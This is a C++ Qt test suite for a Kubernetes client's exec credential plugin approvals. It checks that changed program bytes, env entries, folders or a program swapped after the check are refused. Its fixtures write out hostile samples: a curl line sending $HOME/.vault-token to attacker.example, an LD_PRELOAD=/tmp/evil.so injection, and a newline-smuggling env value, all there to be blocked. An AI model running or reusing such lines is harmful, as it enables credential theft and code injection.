// Exec credential plugins run only as approved: the resolved program and its content,
// args, env, working directory, kubeconfig file and cluster. Each case builds the hostile
// change itself (an env entry added after approval, another repository's ./token, other
// program bytes) and checks that the plugin does not run: the marker file it would write
// never appears.
#include "kube/ClusterConnection.h"
#include "kube/ExecApprovals.h"
#include "kube/ExecCredentialPlugin.h"
#include "kube/ExecFingerprint.h"

#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <cstdio>

using namespace syncline;
using namespace syncline::kube;

namespace {

const QString v1 = QStringLiteral("client.authentication.k8s.io/v1");

void writeFile(const QString& path, const QByteArray& text, bool executable = false) {
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(text);
    file.close();
    if (executable)
        file.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
}

// A plugin that leaves `marker` behind when it runs and answers a token.
QByteArray pluginWritingMarker(const QString& marker, const QByteArray& token = "tok-1234") {
    return "#!/bin/sh\necho ran >> '" + marker.toUtf8() +
           "'\nprintf '{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\","
           "\"status\":{\"token\":\"" +
           token + "\"}}'\n";
}

// A repository-like folder: kubeconfig whose user runs ./token (relative to the folder).
QByteArray kubeconfigRunning(const QByteArray& command, const QByteArray& extraExec = {}) {
    return "apiVersion: v1\nkind: Config\ncurrent-context: prod\n"
           "clusters:\n- name: c\n  cluster: {server: 'https://prod.example:6443'}\n"
           "contexts:\n- name: prod\n  context: {cluster: c, user: u}\n"
           "users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
           "      command: " +
           command + "\n      args: [--cluster, prod]\n" + extraExec;
}

util::Result<ClusterConnection> connectionIn(const QString& folder) {
    return ClusterConnection::resolve({QDir(folder).filePath(QStringLiteral("kubeconfig")), QString(), false});
}

util::Result<ExecCredential> runPlugin(const ClusterConnection& connection, std::shared_ptr<ExecApprovals> approvals) {
    ExecCredentialPlugin plugin(*connection.exec, connection.clusterKey(), std::move(approvals));
    return plugin.credential(connection, {});
}

// Approves what the folder's kubeconfig would run now.
void approveIn(const QString& folder, ExecApprovals& approvals) {
    auto connection = connectionIn(folder);
    QVERIFY2(connection, qPrintable(connection ? QString() : connection.error().toString()));
    auto fingerprint = ExecFingerprint::of(*connection->exec, connection->clusterKey());
    QVERIFY2(fingerprint, qPrintable(fingerprint ? QString() : fingerprint.error().toString()));
    approvals.approve(*fingerprint);
}

// A plugin whose env holds a secret, in `repo`: what it runs, fingerprinted.
std::optional<ExecFingerprint> pluginWithASecretIn(const QTemporaryDir& repo) {
    writeFile(repo.filePath(QStringLiteral("token")), pluginWritingMarker(repo.filePath(QStringLiteral("ran"))), true);
    writeFile(repo.filePath(QStringLiteral("kubeconfig")),
              kubeconfigRunning("./token", "      env:\n      - {name: API_KEY, value: very-secret-value}\n"));
    auto connection = connectionIn(repo.path());
    if (!connection)
        return std::nullopt;
    auto fingerprint = ExecFingerprint::of(*connection->exec, connection->clusterKey());
    return fingerprint ? std::optional(*fingerprint) : std::nullopt;
}

// Says yes, and in that moment (after the program was hashed and checked, before it is
// started) swaps the program for other bytes: the window an attacker would race for.
class SwappingApprovals : public ExecApprovals {
public:
    SwappingApprovals(QString program, QByteArray replacement, bool rename)
        : m_program(std::move(program)), m_replacement(std::move(replacement)), m_rename(rename) {}
    bool isApproved(const ExecFingerprint&) const override {
        const QString target = m_rename ? m_program + QStringLiteral(".new") : m_program;
        writeFile(target, m_replacement, true);
        if (m_rename)
            ::rename(QFile::encodeName(target).constData(), QFile::encodeName(m_program).constData());
        return true;
    }
    void approve(const ExecFingerprint&) override {}
    void revoke(const ExecFingerprint&) override {}

private:
    QString m_program;
    QByteArray m_replacement;
    bool m_rename;
};

struct PathGuard {
    QByteArray old = qgetenv("PATH");
    ~PathGuard() { qputenv("PATH", old); }
};

} // namespace

class TestExecApproval : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void approvedPluginRunsAndEnvAddedLaterAsksAgain() {
        QTemporaryDir repo;
        const QString marker = repo.filePath(QStringLiteral("ran"));
        writeFile(repo.filePath(QStringLiteral("token")), pluginWritingMarker(marker), true);
        writeFile(repo.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        auto approvals = std::make_shared<InMemoryExecApprovals>();
        approveIn(repo.path(), *approvals);

        auto connection = connectionIn(repo.path());
        QVERIFY(connection);
        auto credential = runPlugin(*connection, approvals);
        QVERIFY2(credential, qPrintable(credential ? QString() : credential.error().toString()));
        QCOMPARE(credential->token, QStringLiteral("tok-1234"));
        QVERIFY(QFile::exists(marker)); // the approved plugin did run
        QFile::remove(marker);

        // The repository adds LD_PRELOAD after the user approved: nothing runs, it asks again.
        writeFile(repo.filePath(QStringLiteral("kubeconfig")),
                  kubeconfigRunning("./token", "      env:\n      - {name: LD_PRELOAD, value: /tmp/evil.so}\n"));
        auto changed = connectionIn(repo.path());
        QVERIFY(changed);
        auto refused = runPlugin(*changed, approvals);
        QVERIFY(!refused);
        QCOMPARE(refused.error().code, util::ErrorCode::Auth);
        QVERIFY2(refused.error().message.contains(QStringLiteral("not approved")), qPrintable(refused.error().message));
        QVERIFY(!QFile::exists(marker));
        ExecCredentialPlugin plugin(*changed->exec, changed->clusterKey(), approvals);
        QVERIFY(!plugin.isApproved());
        QVERIFY(plugin.fingerprint()->toText().contains(QStringLiteral("LD_PRELOAD=/tmp/evil.so")));
    }

    void anotherRepositorysTokenIsNotApproved() {
        // Same context, same server, same "./token" as written: other folders, other bytes.
        QTemporaryDir first, second;
        const QString firstMarker = first.filePath(QStringLiteral("ran"));
        const QString secondMarker = second.filePath(QStringLiteral("ran"));
        writeFile(first.filePath(QStringLiteral("token")), pluginWritingMarker(firstMarker), true);
        writeFile(second.filePath(QStringLiteral("token")), pluginWritingMarker(secondMarker, "stolen"), true);
        writeFile(first.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        writeFile(second.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        auto approvals = std::make_shared<InMemoryExecApprovals>();
        approveIn(first.path(), *approvals);

        auto other = connectionIn(second.path());
        QVERIFY(other);
        QCOMPARE(other->clusterKey(), connectionIn(first.path())->clusterKey());
        auto refused = runPlugin(*other, approvals);
        QVERIFY(!refused);
        QVERIFY(refused.error().message.contains(QDir(second.path()).filePath(QStringLiteral("token"))));
        QVERIFY(!QFile::exists(secondMarker));
        QVERIFY(runPlugin(*connectionIn(first.path()), approvals));
        QVERIFY(QFile::exists(firstMarker));
    }

    void sameBytesInAnotherFolderAreNotApprovedEither() {
        QTemporaryDir first, second;
        const QString marker = QDir(second.path()).filePath(QStringLiteral("ran"));
        const QByteArray plugin = pluginWritingMarker(marker);
        writeFile(first.filePath(QStringLiteral("token")), plugin, true);
        writeFile(second.filePath(QStringLiteral("token")), plugin, true);
        writeFile(first.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        writeFile(second.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        auto approvals = std::make_shared<InMemoryExecApprovals>();
        approveIn(first.path(), *approvals);
        QVERIFY(!runPlugin(*connectionIn(second.path()), approvals));
        QVERIFY(!QFile::exists(marker));
    }

    void changedProgramBytesAskAgain() {
        QTemporaryDir repo;
        const QString marker = repo.filePath(QStringLiteral("ran"));
        writeFile(repo.filePath(QStringLiteral("token")), pluginWritingMarker(marker), true);
        writeFile(repo.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        auto approvals = std::make_shared<InMemoryExecApprovals>();
        approveIn(repo.path(), *approvals);

        // Same path, same size class, one more line: other bytes.
        writeFile(repo.filePath(QStringLiteral("token")),
                  pluginWritingMarker(marker) + "curl -s https://attacker.example/ -d @$HOME/.vault-token\n", true);
        auto connection = connectionIn(repo.path());
        QVERIFY(connection);
        auto refused = runPlugin(*connection, approvals);
        QVERIFY(!refused);
        QVERIFY(refused.error().message.contains(QStringLiteral("not approved")));
        QVERIFY(!QFile::exists(marker));
    }

    void programSwappedAfterTheCheckDoesNotRun_data() {
        QTest::addColumn<bool>("rename");
        QTest::newRow("rewritten in place") << false;
        QTest::newRow("replaced by rename") << true;
    }

    void programSwappedAfterTheCheckDoesNotRun() {
        QFETCH(bool, rename);
        QTemporaryDir repo;
        const QString marker = repo.filePath(QStringLiteral("ran"));
        const QString program = repo.filePath(QStringLiteral("token"));
        writeFile(program, pluginWritingMarker(marker), true);
        writeFile(repo.filePath(QStringLiteral("kubeconfig")), kubeconfigRunning("./token"));
        auto connection = connectionIn(repo.path());
        QVERIFY(connection);
        auto swapping = std::make_shared<SwappingApprovals>(program, pluginWritingMarker(marker, "swapped") + "# evil\n", rename);
        auto refused = runPlugin(*connection, swapping);
        QVERIFY(!refused);
        QVERIFY2(refused.error().message.contains(QStringLiteral("changed after it was checked")),
                 qPrintable(refused.error().message));
        QVERIFY(!QFile::exists(marker));
    }

    void fingerprintShowsEverythingThatRuns() {
        QTemporaryDir repo;
        const QByteArray bytes = pluginWritingMarker(repo.filePath(QStringLiteral("ran")));
        writeFile(repo.filePath(QStringLiteral("bin/token")), bytes, true);
        writeFile(repo.filePath(QStringLiteral("kubeconfig")),
                  kubeconfigRunning("./bin/../bin/token", "      env:\n      - {name: REGION, value: eu-1}\n"
                                                          "      - {name: FAKE, value: \"x\\nProgram: /usr/bin/aws\"}\n"));
        auto connection = connectionIn(repo.path());
        QVERIFY(connection);
        auto fingerprint = ExecFingerprint::of(*connection->exec, connection->clusterKey());
        QVERIFY(fingerprint);
        const QString program = QDir(repo.path()).filePath(QStringLiteral("bin/token"));
        QCOMPARE(fingerprint->program, program); // absolute and clean
        QCOMPARE(fingerprint->programSha256,
                 QString::fromLatin1(QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex()));
        QCOMPARE(fingerprint->kubeconfigFile, QDir(repo.path()).filePath(QStringLiteral("kubeconfig")));
        QCOMPARE(fingerprint->workingDirectory, QDir(repo.path()).absolutePath());
        QCOMPARE(fingerprint->cluster, QStringLiteral("prod@https://prod.example:6443"));
        const QString text = fingerprint->toText();
        for (const QString& shown : QStringList{
                 QStringLiteral("Program: ") + program, QStringLiteral("SHA-256: ") + fingerprint->programSha256,
                 QStringLiteral("Arguments: --cluster prod"), QStringLiteral("Environment: REGION=eu-1"),
                 QStringLiteral("Working directory: ") + QDir(repo.path()).absolutePath(),
                 QStringLiteral("Kubeconfig: ") + fingerprint->kubeconfigFile, QStringLiteral("Written as: ./bin/../bin/token")})
            QVERIFY2(text.contains(shown), qPrintable(shown + QStringLiteral(" not in:\n") + text));
        // A value cannot fake a line of its own.
        QVERIFY(text.contains(QStringLiteral("FAKE=x\\u{000a}Program: /usr/bin/aws")));
        QVERIFY(!text.contains(QStringLiteral("\nProgram: /usr/bin/aws")));

        // Each field is in the digest.
        const QString digest = fingerprint->digest();
        auto changedBy = [&](auto change) {
            ExecFingerprint other = *fingerprint;
            change(other);
            return other.digest() != digest;
        };
        QVERIFY(changedBy([](ExecFingerprint& f) { f.args << QStringLiteral("--verbose"); }));
        QVERIFY(changedBy([](ExecFingerprint& f) { f.env.back().second = QStringLiteral("y"); }));
        QVERIFY(changedBy([](ExecFingerprint& f) { f.workingDirectory = QStringLiteral("/tmp"); }));
        QVERIFY(changedBy([](ExecFingerprint& f) { f.kubeconfigFile = QStringLiteral("/tmp/other"); }));
        QVERIFY(changedBy([](ExecFingerprint& f) { f.cluster = QStringLiteral("prod@https://evil.example"); }));
        QVERIFY(changedBy([](ExecFingerprint& f) { f.provideClusterInfo = true; }));
        // No two splits of the same characters share a digest.
        QVERIFY(changedBy([](ExecFingerprint& f) { f.args = {QStringLiteral("--cluster prod")}; }));
    }

    void bareNamesResolveThroughAbsolutePathFoldersOnly() {
        PathGuard guard;
        QTemporaryDir tools;
        writeFile(tools.filePath(QStringLiteral("get-token-xyz")), "#!/bin/sh\nexit 0\n", true);
        ExecConfig config{.apiVersion = v1, .command = QStringLiteral("get-token-xyz"), .baseDir = tools.path()};

        // "." and "" in PATH mean a folder the repository chose: skipped, as kubectl does.
        QVERIFY(QDir::setCurrent(tools.path()));
        qputenv("PATH", "::.:" + QFile::encodeName(tools.path()) + "/../nowhere");
        auto notFound = ExecFingerprint::of(config, QStringLiteral("c@https://x"));
        QVERIFY(!notFound);
        QCOMPARE(notFound.error().code, util::ErrorCode::NotFound);

        qputenv("PATH", "/nonexistent:" + QFile::encodeName(tools.path()) + ":/usr/bin");
        auto found = ExecFingerprint::of(config, QStringLiteral("c@https://x"));
        QVERIFY2(found, qPrintable(found ? QString() : found.error().toString()));
        QCOMPARE(found->program, QDir(tools.path()).filePath(QStringLiteral("get-token-xyz")));
        QDir::setCurrent(QDir::tempPath());
    }

    void programThatIsNotARegularExecutableIsRefused() {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("not-executable")), "#!/bin/sh\n");
        for (const QString& command : {QStringLiteral("/dev/zero"), dir.filePath(QStringLiteral("not-executable")), dir.path(),
                                       dir.filePath(QStringLiteral("absent"))}) {
            ExecConfig config{.apiVersion = v1, .command = command, .baseDir = dir.path()};
            auto refused = ExecFingerprint::of(config, QStringLiteral("c@https://x"));
            QVERIFY2(!refused, qPrintable(command));
            QVERIFY2(refused.error().message.contains(command), qPrintable(refused.error().message));
        }
    }

    void settingsRememberTheDigestAndNoSecrets() {
        QTemporaryDir repo;
        auto fingerprint = pluginWithASecretIn(repo);
        QVERIFY(fingerprint);
        const QString file = repo.filePath(QStringLiteral("settings.ini"));
        SettingsExecApprovals(file).approve(*fingerprint);
        QVERIFY(SettingsExecApprovals(file).isApproved(*fingerprint));
        QFile stored(file);
        QVERIFY(stored.open(QIODevice::ReadOnly));
        const QByteArray text = stored.readAll();
        QVERIFY(text.contains(fingerprint->digest().toLatin1()));
        QVERIFY(!text.contains("very-secret-value"));
        QVERIFY(!text.contains("--cluster"));

        ExecFingerprint other = *fingerprint;
        other.env.emplace_back(QStringLiteral("LD_PRELOAD"), QStringLiteral("/tmp/evil.so"));
        QVERIFY(!SettingsExecApprovals(file).isApproved(other));
        SettingsExecApprovals(file).revoke(*fingerprint);
        QVERIFY(!SettingsExecApprovals(file).isApproved(*fingerprint));
    }

    // Settings ▸ Clusters lists what is approved (cluster and program, never args or env)
    // and takes one back by its digest.
    void approvalsAreListedAndRevokedByDigest() {
        QTemporaryDir repo;
        auto fingerprint = pluginWithASecretIn(repo);
        QVERIFY(fingerprint);
        const QString file = repo.filePath(QStringLiteral("settings.ini"));
        QVERIFY(SettingsExecApprovals(file).approvals().empty());
        SettingsExecApprovals(file).approve(*fingerprint);
        const auto listed = SettingsExecApprovals(file).approvals();
        QCOMPARE(listed.size(), std::size_t(1));
        QCOMPARE(listed.front().digest, fingerprint->digest());
        QCOMPARE(listed.front().cluster, fingerprint->cluster);
        QCOMPARE(listed.front().program, fingerprint->program);
        SettingsExecApprovals(file).revokeDigest(listed.front().digest);
        QVERIFY(!SettingsExecApprovals(file).isApproved(*fingerprint));
        QVERIFY(SettingsExecApprovals(file).approvals().empty());
    }

    void everyPartOfWhatRunsIsPartOfTheApproval_data() {
        // Each row changes one thing about what would run; none of them was approved.
        QTest::addColumn<int>("part");
        const char* parts[] = {"cluster",           "kubeconfig file", "command",           "program",
                               "program bytes",     "an argument",     "argument order",    "an env value",
                               "working directory", "apiVersion",      "provideClusterInfo"};
        for (int i = 0; i < int(std::size(parts)); ++i)
            QTest::newRow(parts[i]) << i;
    }

    void everyPartOfWhatRunsIsPartOfTheApproval() {
        QFETCH(int, part);
        ExecFingerprint approved;
        approved.cluster = QStringLiteral("prod@https://10.0.0.1:6443");
        approved.kubeconfigFile = QStringLiteral("/repo/kubeconfig");
        approved.command = QStringLiteral("./token");
        approved.program = QStringLiteral("/repo/token");
        approved.programSha256 = QStringLiteral("aa11");
        approved.args = {QStringLiteral("--cluster"), QStringLiteral("prod")};
        approved.env = {{QStringLiteral("REGION"), QStringLiteral("eu")}};
        approved.workingDirectory = QStringLiteral("/repo");
        approved.apiVersion = QStringLiteral("client.authentication.k8s.io/v1");
        ExecFingerprint changed = approved;
        switch (part) {
        case 0:
            changed.cluster = QStringLiteral("prod@https://10.0.0.2:6443");
            break;
        case 1:
            changed.kubeconfigFile = QStringLiteral("/repo/other-kubeconfig");
            break;
        case 2:
            changed.command = QStringLiteral("token");
            break;
        case 3:
            changed.program = QStringLiteral("/usr/local/bin/token");
            break;
        case 4:
            changed.programSha256 = QStringLiteral("bb22");
            break;
        case 5:
            changed.args[1] = QStringLiteral("staging");
            break;
        case 6:
            std::swap(changed.args[0], changed.args[1]);
            break;
        case 7:
            changed.env[0].second = QStringLiteral("us");
            break;
        case 8:
            changed.workingDirectory = QStringLiteral("/tmp");
            break;
        case 9:
            changed.apiVersion = QStringLiteral("client.authentication.k8s.io/v1beta1");
            break;
        case 10:
            changed.provideClusterInfo = true;
            break;
        }
        QTemporaryDir dir;
        const QString file = dir.filePath(QStringLiteral("settings.ini"));
        SettingsExecApprovals(file).approve(approved);
        QVERIFY(SettingsExecApprovals(file).isApproved(approved));
        QVERIFY2(!SettingsExecApprovals(file).isApproved(changed), "a changed command ran on an old approval");
        InMemoryExecApprovals memory;
        memory.approve(approved);
        QVERIFY(!memory.isApproved(changed));
    }
};

QTEST_GUILESS_MAIN(TestExecApproval)
#include "tst_execapproval.moc"
